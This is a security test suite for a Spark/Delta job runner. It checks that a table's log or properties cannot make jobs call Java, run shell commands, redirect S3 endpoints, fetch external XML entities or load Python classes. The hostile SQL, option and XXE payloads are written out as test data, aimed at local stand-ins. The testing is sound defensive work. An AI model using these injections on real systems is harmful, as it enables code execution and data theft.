"""Any writer of a table controls its log: its SQL runs in others' jobs, and must call nothing but SQL."""

from __future__ import annotations

import io
import json
import socket
from typing import TYPE_CHECKING

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from handler.outcome.result import Result
from scripts.emulator.rie import LambdaEmulator
from soal.testing.s3 import EmbeddedS3
from tests.support.listener import Listener
from tests.support.waiting import BUSY_S

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = [pytest.mark.emulator, pytest.mark.spark]

CHECKPOINTS, SCRIPTS, LAKE = "checkpoints", "scripts", "lake"
APPEND = """
import sys
from pyspark.sql import SparkSession
from safewriter import SafeWriter

spark = SparkSession.builder.getOrCreate()
with SafeWriter(spark, sys.argv[1]) as sw:
    spark.range(2).write.format("delta").mode("append").save(sw.table)
    sw.success()
"""
READ = """
import sys
from pyspark.sql import SparkSession
spark = SparkSession.builder.getOrCreate()
data = spark.read.format(sys.argv[1]).load(sys.argv[2])
print("COLUMNS", data.columns)
print("ROWS", data.count(), data.collect())
"""
QUERIES = """
import sys
from pyspark.sql import SparkSession
spark = SparkSession.builder.config("spark.sql.extensions", "io.delta.sql.DeltaSparkSessionExtension").getOrCreate()
for session in (spark, spark.newSession()):
    for query in sys.argv[1:]:
        try:
            print("RAN", session.sql(query).collect())
        except Exception as error:
            print("REFUSED", "does not call Java" in str(error) or "does not start programs" in str(error))
"""
ICEBERG = """
import sys
from pyspark.sql import SparkSession
name = "spark.sql.catalog.own"
builder = SparkSession.builder.config(name, "org.apache.iceberg.spark.SparkCatalog").config(f"{name}.type", "hadoop")
spark = builder.config(f"{name}.warehouse", sys.argv[1]).getOrCreate()
spark.sql(f"CREATE TABLE own.db.t (id BIGINT) USING iceberg TBLPROPERTIES ({sys.argv[2]})")
spark.range(2).writeTo("own.db.t").append()
print("ROWS", spark.table("own.db.t").count())
"""
TOLD = """
import json, sys
from pyspark.sql import SparkSession
spark = SparkSession.builder.getOrCreate()
for query in sys.argv[1:]:
    try:
        print("TOLD", json.dumps(str(spark.sql(query).collect()[0][0])))
    except Exception as error:
        print("TOLD", json.dumps(f"{type(error).__name__}: {error}"[:400]))
"""
OF_JAVA = "('java.lang.System', 'getProperty', 'user.home')"
GENERATED, DEFAULT = "delta.generationExpression", "CURRENT_DEFAULT"


@pytest.fixture(scope="module")
def s3() -> Iterator[EmbeddedS3]:
    with EmbeddedS3(buckets=[CHECKPOINTS, SCRIPTS, LAKE], unlistable=[CHECKPOINTS]) as server:
        for name, text in {
            "append": APPEND,
            "read": READ,
            "queries": QUERIES,
            "iceberg": ICEBERG,
            "told": TOLD,
        }.items():
            server.observer().put_object(Bucket=SCRIPTS, Key=f"{name}.py", Body=text.encode())
        yield server


@pytest.fixture(scope="module")
def function(s3: EmbeddedS3) -> Iterator[LambdaEmulator]:
    environment = {**s3.environment(), "SW_CHECKPOINT_BUCKET": CHECKPOINTS}
    with LambdaEmulator(environment, timeout_s=12 * BUSY_S, memory_mb=1769) as emulator:
        yield emulator


def run(function: LambdaEmulator, script: str, *arguments: str) -> Result:
    answer = function.invoke({"entryPoint": f"s3://{SCRIPTS}/{script}.py", "entryPointArguments": list(arguments)})
    return Result.model_validate(answer.payload if answer.error is None else json.loads(answer.error.message))


def create(s3: EmbeddedS3, table: str, column: dict[str, str], options: dict[str, str] | None = None) -> str:
    """Make an empty table, as any writer of one object can."""
    schema = {
        "type": "struct",
        "fields": [
            {"name": "id", "type": "long", "nullable": True, "metadata": {}},
            {"name": "g", "type": "string", "nullable": True, "metadata": column},
        ],
    }
    features = ["appendOnly", "invariants", "generatedColumns", "allowColumnDefaults"]
    actions = [
        {"protocol": {"minReaderVersion": 1, "minWriterVersion": 7, "writerFeatures": features}},
        {
            "metaData": {
                "id": table,
                "format": {"provider": "parquet", "options": options or {}},
                "schemaString": json.dumps(schema),
                "partitionColumns": [],
                "configuration": {},
                "createdTime": 1,
            }
        },
    ]
    body = "\n".join(json.dumps(action) for action in actions)
    s3.observer().put_object(Bucket=LAKE, Key=f"{table}/_delta_log/{0:020}.json", Body=body.encode())
    return f"s3a://{LAKE}/{table}"


def test_the_sql_of_a_table_starts_no_program(function: LambdaEmulator, s3: EmbeddedS3, tmp_path: Path) -> None:
    """An append evaluates generated columns and defaults, which could run a shell with the role's rights."""
    started = tmp_path / "started"
    java = f"reflect('org.apache.spark.TestUtils', 'testCommandAvailable', 'x; touch {started}')"
    program = f"(SELECT max(a) FROM (SELECT TRANSFORM(1) USING 'touch {started}; echo 1' AS (a string)))"
    columns = ({GENERATED: java}, {GENERATED: program}, {DEFAULT: java, "EXISTS_DEFAULT": "'x'"})
    for number, column in enumerate(columns):
        result = run(function, "append", create(s3, f"table{number}", column))
        assert not started.exists(), column
        assert result.state == "FAILED"
        assert "none of its writes is committed" in result.state_details


def test_a_column_that_calls_nothing_is_generated(function: LambdaEmulator, s3: EmbeddedS3) -> None:
    """So the errors above do not come from a broken table."""
    assert run(function, "append", create(s3, "honest", {GENERATED: "cast(id AS string)"})).state == "SUCCESS"


def test_no_sql_calls_java(function: LambdaEmulator) -> None:
    """Every function that could is refused in each session, also where a script sets its own extensions."""
    queries = [f"SELECT {name}{OF_JAVA}" for name in ("reflect", "java_method", "try_reflect")]
    result = run(function, "queries", *queries, "SELECT TRANSFORM(1) USING 'cat' AS (a string)")
    assert result.state == "SUCCESS"
    assert [line for line in result.log_tail if line.startswith(("RAN", "REFUSED"))] == ["REFUSED True"] * 8


def test_a_table_s_log_sets_nothing_of_hadoop_s(function: LambdaEmulator, s3: EmbeddedS3, tmp_path: Path) -> None:
    """Options of the format, or of a relation in its SQL, could name another server or a program; also in a read."""
    elsewhere = socket.create_server(("127.0.0.1", 0))
    elsewhere.settimeout(0)
    endpoint = {"fs.s3a.endpoint": f"http://127.0.0.1:{elsewhere.getsockname()[1]}"}
    program = tmp_path / "program"
    program.write_text(f"#!/bin/sh\ntouch {tmp_path}/started\n")
    program.chmod(0o755)
    topology = {"fs.client.resolve.topology.enabled": "true", "net.topology.script.file.name": str(program)}
    s3.observer().put_object(Bucket=LAKE, Key="rows/a.txt", Body=b"row\n")

    for number, (options, path) in enumerate(((endpoint, f"s3a://{LAKE}/rows"), (topology, "hdfs://127.0.0.1:1/a"))):
        of_format = create(s3, f"options{number}", {}, options)
        add = {"path": f"{path}/a.parquet", "partitionValues": {}, "size": 9, "modificationTime": 1, "dataChange": True}
        log = f"options{number}/_delta_log/{1:020}.json"
        s3.observer().put_object(Bucket=LAKE, Key=log, Body=json.dumps({"add": add}).encode())
        listed = ", ".join(f"'{name}' = '{value}'" for name, value in options.items())
        of_sql = create(s3, f"sql{number}", {GENERATED: f"(SELECT max(value) FROM text.`{path}` WITH ({listed}))"})

        result = run(function, "read", "delta", of_format)
        assert result.state == "FAILED"
        assert f"the option {next(iter(options))} sets more than a format" in " ".join(result.log_tail)
        assert run(function, "append", of_sql).state == "FAILED"
    assert not (tmp_path / "started").exists()
    with pytest.raises(BlockingIOError):
        elsewhere.accept()
    elsewhere.close()


def test_xml_names_no_file_and_no_server(function: LambdaEmulator, s3: EmbeddedS3, tmp_path: Path) -> None:
    """Neither a row nor a schema in a table's SQL makes Java fetch another document: a DTD, an entity, an import."""
    server = Listener()
    xs = '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
    (tmp_path / "included.xsd").write_text(f"{xs}</xs:schema>", encoding="utf-8")
    (tmp_path / "empty.dtd").write_text("", encoding="utf-8")
    row = '<xs:element name="ROW"><xs:complexType><xs:sequence><xs:element name="a" type="xs:int"/></xs:sequence>'
    schema = f"{xs}%s{row}</xs:complexType></xs:element></xs:schema>"
    documents = {
        "plain": schema % "",
        "server": f'<!DOCTYPE x [<!ENTITY % d SYSTEM "{server.url}">%d;]>' + schema % "",
        "dtd": f'<!DOCTYPE x SYSTEM "file://{tmp_path}/empty.dtd">' + schema % "",
        "import": schema % f'<xs:import namespace="u" schemaLocation="{server.url}"/>',
        "include": schema % f'<xs:include schemaLocation="file://{tmp_path}/included.xsd"/>',
    }
    for name, text in documents.items():
        s3.observer().put_object(Bucket=LAKE, Key=f"xml/{name}.xsd", Body=text.encode())
    s3.observer().put_object(Bucket=LAKE, Key="xml/rows/a.xml", Body=b"<rows><ROW><a>1</a></ROW></rows>")

    def checked(schema: str, of_row: str = "", value: str = "1") -> str:
        options = f"map('rowValidationXSDPath', 's3a://{LAKE}/xml/{schema}.xsd', 'mode', 'FAILFAST')"
        return f"from_xml('{of_row}<ROW><a>{value}</a></ROW>', 'a STRING', {options}).a"

    doctype = f'<!DOCTYPE ROW SYSTEM "{server.url}">'
    from_files = (
        f"xml.`s3a://{LAKE}/xml/rows` WITH ('rowTag'='ROW', 'rowValidationXSDPath'='s3a://{LAKE}/xml/server.xsd')"
    )
    refused = [
        *(f"SELECT {checked(name)}" for name in documents if name != "plain"),
        f"SELECT a FROM {from_files}",
        f"SELECT {checked('plain', doctype)}",
        f"SELECT xpath_string('{doctype}<r><a>1</a></r>', 'r/a')",
    ]
    taken = [
        f"SELECT {checked('plain')}",
        f"SELECT a FROM {from_files.replace('server.xsd', 'plain.xsd')}",
        "SELECT xpath_string('<!DOCTYPE r [<!ENTITY e \"1\">]><r><a>&e;</a></r>', 'r/a')",
    ]

    result = run(function, "told", *refused, *taken, f"SELECT {checked('plain', value='x')}")

    told = [json.loads(line.removeprefix("TOLD")) for line in result.log_tail if line.startswith("TOLD")]
    assert len(told) == len(refused) + len(taken) + 1, result.log_tail
    assert [end for end in told[: len(refused)] if "Exception" not in end] == []
    assert told[len(refused) : -1] == ["1"] * len(taken)
    assert "Malformed records are detected" in told[-1]

    written = run(function, "append", create(s3, "xml-table", {GENERATED: f"CAST({checked('server')} AS STRING)"}))
    assert "'http' access is not allowed" in written.state_details
    assert server.heard == b""
    server.close()


@pytest.mark.parametrize("named", ["venv.__main__.X", "sys.exit"])
def test_a_file_s_schema_runs_no_python(function: LambdaEmulator, s3: EmbeddedS3, named: str) -> None:
    """With a column of a Python class that the script has not imported, the job fails and says so."""
    kind = {"type": "udt", "pyClass": named, "serializedClass": "AAAA", "sqlType": "string"}
    field = {"name": "a", "type": kind, "nullable": True, "metadata": {}}
    footer = json.dumps({"type": "struct", "fields": [field]})
    table = pa.table({"a": ["x"]}).replace_schema_metadata({"org.apache.spark.sql.parquet.row.metadata": footer})
    body = io.BytesIO()
    pq.write_table(table, body)
    s3.observer().put_object(Bucket=LAKE, Key=f"classes/{named}/a.parquet", Body=body.getvalue())

    result = run(function, "read", "parquet", f"s3a://{LAKE}/classes/{named}")

    assert result.state == "FAILED"
    assert f"the Python class {named}" in result.state_details


def test_options_of_formats_are_options_still(function: LambdaEmulator, s3: EmbeddedS3) -> None:
    """A harmless option reads the table, also from a table's log."""
    table = create(
        s3, "harmless", {}, {"mapreduce.input.fileinputformat.split.maxsize": "1048576", "plain": "x", "delta.of": "x"}
    )
    result = run(function, "read", "delta", table)
    assert result.state == "SUCCESS", result.state_details


@pytest.mark.parametrize("format_name", ["parquet", "orc"])
def test_the_properties_of_an_iceberg_table_set_nothing_of_hadoop_s(
    function: LambdaEmulator, s3: EmbeddedS3, format_name: str
) -> None:
    """Iceberg's Parquet writer would send the rows, signed with the role, to another server, or load a class."""
    elsewhere = socket.create_server(("127.0.0.1", 0))
    elsewhere.settimeout(0)
    foreign = {
        "fs.s3a.endpoint": f"http://127.0.0.1:{elsewhere.getsockname()[1]}",
        "fs.s3a.impl.disable.cache": "true",
        "fs.s3a.impl": "org.apache.hadoop.fs.RawLocalFileSystem",
        "write.format.default": format_name,
    }
    listed = ", ".join(f"'{name}' = '{value}'" for name, value in foreign.items())

    result = run(function, "iceberg", f"s3a://{LAKE}/{format_name}", listed)

    assert result.state == "SUCCESS", result.state_details
    assert "ROWS 2" in result.log_tail
    assert len(s3.observer().list_objects_v2(Bucket=LAKE, Prefix=f"{format_name}/db/t/data/")["Contents"]) == 1
    with pytest.raises(BlockingIOError):
        elsewhere.accept()
    elsewhere.close()
